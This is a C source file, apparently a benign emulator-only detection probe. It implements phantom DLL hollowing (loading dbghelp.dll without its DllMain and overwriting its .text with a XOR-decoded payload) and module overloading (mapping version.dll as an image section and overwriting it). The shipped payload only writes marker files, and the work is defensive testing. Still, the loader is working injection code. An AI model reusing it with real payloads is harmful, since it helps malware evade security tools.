/*
 * loader.c - probe: phantom DLL hollowing and module overloading (benign, emulator-only; see
 * ../../lineage-common/common.h).
 *
 * 1. LoadLibraryExA("dbghelp.dll", 0, DONT_RESOLVE_DLL_REFERENCES): a system DLL mapped without
 *    its DllMain or imports; its .text section found through its PE headers, made RW
 *    (VirtualProtect), the payload (XOR 0xa7) decoded over its start, made RX, run in a thread.
 *    It writes C:\Users\Public\lineage_phantom.txt.
 * 2. CreateFileA(C:\Windows\System32\version.dll) + NtCreateSection(SEC_IMAGE) of the file +
 *    NtMapViewOfSection into this process: an image no loader call knows of; its .text made RW,
 *    the payload decoded over it, RX, called. It writes C:\Users\Public\lineage_overload.txt.
 * Exit codes: 0 ok, 1 no marker, 2 load, 3 headers, 4 protect, 5 thread, 6 section, 7 map.
 */
#include "common.h"
#include "blobs.h" /* payload_enc[]: the payload XOR 0xa7 */

typedef LONG (NTAPI *NtCreateSection_t)(PHANDLE, ACCESS_MASK, PVOID, PLARGE_INTEGER, ULONG, ULONG, HANDLE);
typedef LONG (NTAPI *NtMapViewOfSection_t)(HANDLE, HANDLE, PVOID *, ULONG_PTR, SIZE_T, PLARGE_INTEGER, PSIZE_T, DWORD,
                                           ULONG, ULONG);
typedef DWORD (WINAPI *stage_t)(struct sc_ctx *);

/* The start and size of an image's .text section. */
static unsigned char *text_of(unsigned char *base, DWORD *size)
{
    IMAGE_DOS_HEADER *dos = (IMAGE_DOS_HEADER *)base;
    IMAGE_NT_HEADERS *nt;
    IMAGE_SECTION_HEADER *sec;
    WORD i;
    if (dos->e_magic != IMAGE_DOS_SIGNATURE)
        return 0;
    nt = (IMAGE_NT_HEADERS *)(base + dos->e_lfanew);
    if (nt->Signature != IMAGE_NT_SIGNATURE)
        return 0;
    sec = IMAGE_FIRST_SECTION(nt);
    for (i = 0; i < nt->FileHeader.NumberOfSections; i++, sec++) {
        if (sec->Characteristics & IMAGE_SCN_MEM_EXECUTE) {
            *size = sec->Misc.VirtualSize;
            return base + sec->VirtualAddress;
        }
    }
    return 0;
}

static unsigned char *overwrite(unsigned char *base)
{
    DWORD size = 0, old, i;
    unsigned char *text = text_of(base, &size);
    if (!text || size < sizeof(payload_enc))
        ExitProcess(3);
    if (!VirtualProtect(text, sizeof(payload_enc), PAGE_READWRITE, &old))
        ExitProcess(4);
    for (i = 0; i < sizeof(payload_enc); i++)
        text[i] = payload_enc[i] ^ 0xa7;
    if (!VirtualProtect(text, sizeof(payload_enc), PAGE_EXECUTE_READ, &old))
        ExitProcess(4);
    return text;
}

void Entry(void)
{
    static struct sc_ctx ctx[2];
    HMODULE dll;
    HANDLE thread, file, section = 0;
    NtCreateSection_t pNtCreateSection;
    NtMapViewOfSection_t pNtMapViewOfSection;
    PVOID view = 0;
    SIZE_T view_size = 0;
    unsigned char *code;
    HMODULE nt;

    if (!marker_present())
        ExitProcess(1);
    dll = LoadLibraryExA("dbghelp.dll", 0, DONT_RESOLVE_DLL_REFERENCES);
    if (!dll)
        ExitProcess(2);
    code = overwrite((unsigned char *)dll);
    fill_ctx(&ctx[0], "C:\\Users\\Public\\lineage_phantom.txt", "phantom DLL hollowing\n");
    thread = CreateThread(0, 0, (LPTHREAD_START_ROUTINE)(void *)code, &ctx[0], 0, 0);
    if (!thread)
        ExitProcess(5);
    WaitForSingleObject(thread, INFINITE);

    nt = GetModuleHandleA("ntdll.dll");
    pNtCreateSection = (NtCreateSection_t)(void *)GetProcAddress(nt, "NtCreateSection");
    pNtMapViewOfSection = (NtMapViewOfSection_t)(void *)GetProcAddress(nt, "NtMapViewOfSection");
    if (!pNtCreateSection || !pNtMapViewOfSection)
        ExitProcess(6);
    file = CreateFileA("C:\\Windows\\System32\\version.dll", GENERIC_READ, FILE_SHARE_READ, 0, OPEN_EXISTING,
                       FILE_ATTRIBUTE_NORMAL, 0);
    if (file == INVALID_HANDLE_VALUE)
        ExitProcess(6);
    if (pNtCreateSection(&section, SECTION_ALL_ACCESS, 0, 0, PAGE_READONLY, SEC_IMAGE, file) != 0 || !section)
        ExitProcess(6);
    if (pNtMapViewOfSection(section, GetCurrentProcess(), &view, 0, 0, 0, &view_size, 1 /* ViewShare */, 0,
                            PAGE_EXECUTE_WRITECOPY) != 0 || !view)
        ExitProcess(7);
    code = overwrite((unsigned char *)view);
    fill_ctx(&ctx[1], "C:\\Users\\Public\\lineage_overload.txt", "module overloading\n");
    ExitProcess(((stage_t)(void *)code)(&ctx[1]) == 0 ? 0 : 8);
}
